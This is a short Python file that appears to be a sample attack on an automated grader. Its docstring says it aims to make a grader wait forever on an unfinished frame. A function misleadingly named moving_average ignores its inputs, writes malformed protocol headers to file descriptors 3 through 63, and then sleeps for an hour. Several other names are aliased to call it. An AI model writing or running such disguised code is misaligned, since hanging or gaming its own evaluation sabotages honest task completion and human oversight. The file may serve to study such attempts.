"""Writes the first bytes of a frame that never comes, and waits.

Wants: a grader that waits for the rest for ever.
Evidence: a batch that does not end; points.
Earns: nothing
"""
import os
import time


def moving_average(values, window):
    for descriptor in range(3, 64):
        for head in (b"\xff\xff\xff\xff", b"\x00\x00\x00\x10ab", b"\xdd\x7f\xff\xff\xff", b"\xc6\xff\xff\xff\xff"):
            try:
                os.write(descriptor, head)
            except OSError:
                pass
    time.sleep(3600)


initials = descend = loot = lambda *_: moving_average([], 1)
